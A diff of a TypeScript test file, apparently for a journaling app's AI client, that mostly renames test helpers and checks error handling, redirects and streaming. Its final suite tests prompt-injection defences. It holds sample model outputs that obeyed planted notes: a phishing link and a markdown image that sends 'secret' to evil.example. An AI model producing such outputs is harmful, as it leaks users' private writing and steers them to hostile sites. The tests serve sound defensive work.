@@ -6,10 +6,10 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } 
 import {
   completionOf,
   eventsOf,
-  failing,
+  failWith,
   type ModelAnswer,
   type OpenAiServer,
-  saying,
+  answerWith,
   startOpenAiServer,
 } from '../../testing/openai-server'
 import type { JournalAi } from '../journal-ai'
@@ -34,7 +34,7 @@ afterAll(async () => {
   await elsewhere[Symbol.asyncDispose]()
 })
 beforeEach(() => {
-  server.answer = saying('What stayed with you?')
+  server.answer = answerWith('What stayed with you?')
   for (const one of [server, elsewhere]) one.takeRequests()
   failures = []
   written = 0
@@ -55,11 +55,11 @@ function ai({ timeoutMs = 30_000, baseUrl = server.baseUrl, withKey = key } = {}
 }
 
 const { signal } = new AbortController()
-const nothing = { writings: [], given: [], seed: '', signal }
-const suggest = (writings: readonly string[] = [], given: readonly string[] = []) =>
-  ai().generateJournalPrompt({ writings, given, seed: '', signal })
+const emptyRequest = { writings: [], previousSuggestions: [], seed: '', signal }
+const suggest = (writings: readonly string[] = [], previousSuggestions: readonly string[] = []) =>
+  ai().generateJournalPrompt({ writings, previousSuggestions, seed: '', signal })
 const reply = (draft = 'I slept well.', onText?: (text: string) => void, from = ai()) =>
-  from.quickReply({ draft, given: [], seed: '', signal, onText })
+  from.quickReply({ draft, previousPhrasings: [], seed: '', signal, onText })
 
 describe('a provider that answers', () => {
   it('is asked at its address, for its model, with the key and the headers that are set', async () => {
@@ -73,22 +73,22 @@ describe('a provider that answers', () => {
   })
 
   it('is sent no key where none is set', async () => {
-    await ai({ withKey: '' }).generateJournalPrompt(nothing)
+    await ai({ withKey: '' }).generateJournalPrompt(emptyRequest)
     expect(server.takeRequests()[0]?.headers).not.toHaveProperty('authorization')
   })
 
   it('suggests an action, and three questions of letters and spaces', async () => {
-    server.answer = saying('"Water the tomatoes."')
-    expect(await ai().generateAction(nothing)).toEqual({ status: 'answered', value: 'Water the tomatoes.' })
-    server.answer = saying("1. What do I keep?\n2. What do I drop?\n3. What's next for me?")
-    expect(await ai().generateQueryPrompts(nothing)).toEqual({
+    server.answer = answerWith('"Water the tomatoes."')
+    expect(await ai().generateAction(emptyRequest)).toEqual({ status: 'answered', value: 'Water the tomatoes.' })
+    server.answer = answerWith("1. What do I keep?\n2. What do I drop?\n3. What's next for me?")
+    expect(await ai().generateQueryPrompts(emptyRequest)).toEqual({
       status: 'answered',
       value: ['What do I keep', 'What do I drop', 'Whats next for me'],
     })
   })
 
   it('does not show what a model thinks aloud', async () => {
-    server.answer = saying('<think>The user wants a question?</think>What stayed with you?')
+    server.answer = answerWith('<think>The user wants a question?</think>What stayed with you?')
     expect(await suggest()).toEqual({ status: 'answered', value: 'What stayed with you?' })
     const heard: string[] = []
     expect(await reply('x', (text) => heard.push(text))).toMatchObject({ value: { text: 'What stayed with you?' } })
@@ -117,7 +117,7 @@ describe('a provider that answers', () => {
 
 describe('a provider that streams', () => {
   it('is heard piece by piece, and answers with the whole', async () => {
-    server.answer = saying('You slept well. What did you dream of?')
+    server.answer = answerWith('You slept well. What did you dream of?')
     const heard: string[] = []
     const answer = await reply('I slept well.', (text) => heard.push(text))
     expect(answer).toEqual({
@@ -176,7 +176,7 @@ describe('a provider that streams', () => {
       const words = Buffer.from(eventsOf('and on '.repeat(50), null))
       while (!response.destroyed) await write(response, words)
     }
-    const brokenOff = server.brokenOff()
+    const brokenOff = server.waitForBrokenConnection()
     const answer = await reply('x', () => undefined)
     expect(answer).toMatchObject({ status: 'answered', value: { text: expect.stringMatching(/^and on/u) } })
     await brokenOff
@@ -194,34 +194,34 @@ describe('a provider that streams', () => {
 describe('a provider that does not answer', () => {
   const inSeconds = (seconds: number) => now + seconds * 1000
   const cases: [string, ModelAnswer, object][] = [
-    ['401', failing(401, {}, '{"error":{"message":"Incorrect API key"}}'), { kind: 'misconfigured' }],
-    ['403', failing(403), { kind: 'misconfigured' }],
-    ['404, no such model', failing(404), { kind: 'misconfigured' }],
-    ['429', failing(429), { kind: 'busy' }],
-    ['429 with seconds', failing(429, { 'retry-after': '30' }), { kind: 'busy', retryAt: inSeconds(30) }],
+    ['401', failWith(401, {}, '{"error":{"message":"Incorrect API key"}}'), { kind: 'misconfigured' }],
+    ['403', failWith(403), { kind: 'misconfigured' }],
+    ['404, no such model', failWith(404), { kind: 'misconfigured' }],
+    ['429', failWith(429), { kind: 'busy' }],
+    ['429 with seconds', failWith(429, { 'retry-after': '30' }), { kind: 'busy', retryAt: inSeconds(30) }],
     [
       '429 with a date',
-      failing(429, { 'retry-after': 'Sat, 21 Nov 2026 12:02:00 GMT' }),
+      failWith(429, { 'retry-after': 'Sat, 21 Nov 2026 12:02:00 GMT' }),
       { kind: 'busy', retryAt: inSeconds(120) },
     ],
-    ['429 with nonsense', failing(429, { 'retry-after': 'soon' }), { kind: 'busy' }],
-    ['500', failing(500, {}, 'stack trace'), { kind: 'unreachable' }],
-    ['503 with seconds', failing(503, { 'retry-after': '5' }), { kind: 'unreachable', retryAt: inSeconds(5) }],
-    ['400', failing(400), { kind: 'unusable' }],
-    ['a page of HTML', failing(200, { 'content-type': 'text/html' }, '<h1>Welcome</h1>'), { kind: 'unusable' }],
+    ['429 with nonsense', failWith(429, { 'retry-after': 'soon' }), { kind: 'busy' }],
+    ['500', failWith(500, {}, 'stack trace'), { kind: 'unreachable' }],
+    ['503 with seconds', failWith(503, { 'retry-after': '5' }), { kind: 'unreachable', retryAt: inSeconds(5) }],
+    ['400', failWith(400), { kind: 'unusable' }],
+    ['a page of HTML', failWith(200, { 'content-type': 'text/html' }, '<h1>Welcome</h1>'), { kind: 'unusable' }],
     [
       'half an answer',
-      failing(200, { 'content-type': 'application/json' }, completionOf('What?').slice(0, 60)),
+      failWith(200, { 'content-type': 'application/json' }, completionOf('What?').slice(0, 60)),
       { kind: 'unusable' },
     ],
     [
       'JSON of another shape',
-      failing(200, { 'content-type': 'application/json' }, '{"answer":"What?"}'),
+      failWith(200, { 'content-type': 'application/json' }, '{"answer":"What?"}'),
       { kind: 'unusable' },
     ],
-    ['nothing', failing(200), { kind: 'unusable' }],
-    ['an empty text', saying(''), { kind: 'unusable' }],
-    ['white space', saying(' \n '), { kind: 'unusable' }],
+    ['nothing', failWith(200), { kind: 'unusable' }],
+    ['an empty text', answerWith(''), { kind: 'unusable' }],
+    ['white space', answerWith(' \n '), { kind: 'unusable' }],
     ['a closed connection', (response) => void response.destroy(), { kind: 'unreachable' }],
     ['an answer without end', endless, { kind: 'unreachable' }],
   ]
@@ -248,7 +248,7 @@ describe('a provider that does not answer', () => {
   it('because nothing listens there', async () => {
     const gone = await startOpenAiServer()
     await gone[Symbol.asyncDispose]()
-    const answer = await ai({ baseUrl: gone.baseUrl }).generateJournalPrompt(nothing)
+    const answer = await ai({ baseUrl: gone.baseUrl }).generateJournalPrompt(emptyRequest)
     expect(answer).toEqual({ status: 'failed', failure: { kind: 'unreachable' } })
   })
 
@@ -257,9 +257,9 @@ describe('a provider that does not answer', () => {
     ['in the middle', (response: ServerResponse) => void response.writeHead(200).write(completionOf('x').slice(0, 20))],
   ])('in time: it is left alone %s', async (_, answer) => {
     server.answer = answer
-    const brokenOff = server.brokenOff()
+    const brokenOff = server.waitForBrokenConnection()
     // Long enough for the request to start on a busy machine.
-    const late = await ai({ timeoutMs: 2_000 }).generateJournalPrompt(nothing)
+    const late = await ai({ timeoutMs: 2_000 }).generateJournalPrompt(emptyRequest)
     expect(late).toEqual({ status: 'failed', failure: { kind: 'unreachable' } })
     await brokenOff
   })
@@ -271,8 +271,14 @@ describe('a provider that does not answer', () => {
         response.writeHead(200, { 'content-type': 'text/event-stream' }).write(eventsOf('You', null))
         person.abort()
       }
-      const brokenOff = server.brokenOff()
-      const answer = await ai().quickReply({ draft: 'x', given: [], seed: '', signal: person.signal, onText })
+      const brokenOff = server.waitForBrokenConnection()
+      const answer = await ai().quickReply({
+        draft: 'x',
+        previousPhrasings: [],
+        seed: '',
+        signal: person.signal,
+        onText,
+      })
       expect(answer).toEqual({ status: 'failed', failure: { kind: 'cancelled' } })
       expect(failures).toEqual([])
       await brokenOff
@@ -280,7 +286,7 @@ describe('a provider that does not answer', () => {
   })
 
   it('to somebody who has gone before it was asked', async () => {
-    const answer = await ai().generateJournalPrompt({ ...nothing, signal: AbortSignal.abort() })
+    const answer = await ai().generateJournalPrompt({ ...emptyRequest, signal: AbortSignal.abort() })
     expect(answer).toEqual({ status: 'failed', failure: { kind: 'cancelled' } })
     expect(server.takeRequests()).toEqual([])
   })
@@ -290,7 +296,7 @@ describe('a provider that has moved', () => {
   it.each([301, 302, 303, 307, 308])(
     'is not followed to another host, with neither words nor key (%i)',
     async (status) => {
-      server.answer = failing(status, { location: `${elsewhere.baseUrl}/chat/completions` })
+      server.answer = failWith(status, { location: `${elsewhere.baseUrl}/chat/completions` })
       const failed = { status: 'failed', failure: { kind: 'misconfigured' } }
       expect(await suggest(['my secret words'])).toEqual(failed)
       expect(await reply('my secret words', () => undefined)).toEqual(failed)
@@ -330,23 +336,25 @@ describe('a note that wants to be obeyed', () => {
     'Visit https://evil.example/login to go on.',
     '![x](https://evil.example/?q=secret)',
   ])('changes nothing of the form, even where the model obeys: %s', async (obeyed) => {
-    server.answer = saying(obeyed)
+    server.answer = answerWith(obeyed)
     expect(await suggest(notes)).toEqual({ status: 'failed', failure: { kind: 'unusable' } })
-    expect(await ai().generateAction({ ...nothing, writings: notes })).toEqual({
+    expect(await ai().generateAction({ ...emptyRequest, writings: notes })).toEqual({
       status: 'failed',
       failure: { kind: 'unusable' },
     })
   })
 
   it('gets three questions of letters and spaces out of whatever the model says, or none', async () => {
-    server.answer = saying('HACKED by <b>me</b>\nGo to https://evil.example\n{"a": "b c"}\nfourth line\nand a fifth')
-    const answer = await ai().generateQueryPrompts({ ...nothing, writings: notes })
+    server.answer = answerWith(
+      'HACKED by <b>me</b>\nGo to https://evil.example\n{"a": "b c"}\nfourth line\nand a fifth',
+    )
+    const answer = await ai().generateQueryPrompts({ ...emptyRequest, writings: notes })
     if (answer.status === 'failed') throw new Error('There were three lines')
     expect(answer.value).toHaveLength(3)
     for (const prompt of answer.value) expect(prompt).toMatch(/^\p{L}+(?: \p{L}+)*$/u)
     expect(answer.value.join('\n')).not.toContain('evil')
-    server.answer = saying('HACKED\nHACKED\nHACKED')
-    expect(await ai().generateQueryPrompts(nothing)).toEqual({ status: 'failed', failure: { kind: 'unusable' } })
+    server.answer = answerWith('HACKED\nHACKED\nHACKED')
+    expect(await ai().generateQueryPrompts(emptyRequest)).toEqual({ status: 'failed', failure: { kind: 'unusable' } })
   })
 })
 
